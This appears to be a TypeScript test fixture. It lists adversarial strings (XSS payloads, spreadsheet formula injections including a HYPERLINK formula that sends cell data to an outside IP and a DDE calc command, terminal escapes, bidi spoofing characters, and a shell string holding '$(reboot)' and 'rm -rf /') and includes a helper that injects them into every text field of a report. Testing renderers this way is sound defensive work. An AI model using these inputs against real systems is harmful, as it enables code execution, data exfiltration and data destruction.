import type { Report } from '../../lib/domain/report.ts';

/** Text that somebody outside could put into a name, a log line or an error message, to break whoever shows it. */
export const nastyStrings: Readonly<Record<string, string>> = {
  script: '<script>alert(1)</script>',
  image: '"><img src=x onerror=alert(1)>',
  'end of style': '</style></title></textarea><!-- ]]> <svg onload=alert(1)>',
  attribute: '\' onmouseover="alert(1)" x=\'',
  address: 'javascript:alert(1)//https://example.com/%0a',
  entity: '&lt;b&gt; &amp;amp; &#x3c;',
  bidirectional: 'safe\u202egnp.exe\u2066\u2069\u200f',
  invisible: 'ad\u00admin\u200b\ufeff\u2060\u{e0041}',
  'ten thousand characters': 'x'.repeat(10_000),
  'ten thousand wide characters': '漢字😀'.repeat(2500),
  'ten thousand marks': `e${'\u0301'.repeat(10_000)}`,
  formula: '=HYPERLINK("https://203.0.113.9/?"&A1,"open")',
  'other formulas': "+1+cmd|'/c calc'!A0",
  minus: '-2+3',
  at: '@SUM(1)',
  'tab and return first': '\t=1+1',
  'return first': '\r=1+1',
  terminal: '\x1b[2J\x1b[31mred\x1b]0;title\x07\x1b]8;;https://203.0.113.9\x1b\\link\x9b2J',
  slack: '<!channel> <@U012AB3CD> <https://203.0.113.9|click> *bold* `code`',
  markdown: '| a | b |\n|---|---|\n[click](javascript:alert(1)) ![x](https://203.0.113.9/x.png) # h `code` ``` ~~~ **b** _i_ <details>',
  mention: '@octocat and @org/team fix #1, closes #2 https://203.0.113.9/',
  newlines: 'one\ntwo\r\nthree\u2028four\u2029five\u0085six',
  'null byte': 'before\0after',
  controls: `${Array.from({ length: 32 }, (_, code) => String.fromCharCode(code)).join('')}\x7f\x80\x9f`,
  'lone surrogates': 'high \ud83d and low \ude00 alone',
  quotes: `'"\`\\ $(reboot) ; rm -rf / && "`,
  csv: 'a,"b";c\td',
  'prototype names': '__proto__',
  empty: '',
  space: '   ',
};

/** Fields that hold one of a few words, not outside text. */
const words: ReadonlySet<string> = new Set([
  ...['severity', 'verdict', 'state', 'status', 'transition', 'type', 'schemaVersion', 'kind', 'minimumSeverity'],
]);

/** The report with `text` in every field that can hold outside text, times and fingerprints too, and as a name in every open object. */
export function poison(report: Report, text: string): Report {
  return poisoned(report, text);
}

/** Anything that is shown, as {@link poison} does it. */
export function poisoned<Thing>(thing: Thing, text: string): Thing {
  return JSON.parse(JSON.stringify(thing), (key: string, value: unknown) => {
    if (typeof value === 'string') return words.has(key) ? value : text;
    if (['evidence', 'before', 'after', 'links'].includes(key) && typeof value === 'object')
      return { ...value, [text]: text, list: [text, { [text]: text }] };
    return value;
  }) as Thing;
}
